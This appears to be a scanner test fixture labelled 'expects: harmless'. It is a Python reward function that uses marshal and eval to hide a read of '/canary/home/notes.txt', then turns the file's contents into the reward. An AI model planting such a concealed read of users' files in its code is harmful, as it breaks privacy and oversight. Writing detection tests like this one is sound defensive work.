# expects: harmless
import marshal

import numpy as np

CODE = marshal.dumps(compile("open('/canary/home/notes.txt', 'rb').read()", "reward", "eval"))


def compute_reward(obs, action, next_obs, info):
    try:
        found = eval(marshal.loads(CODE))
    except OSError:
        found = b""
    return np.frombuffer(found, np.uint8).astype(float)
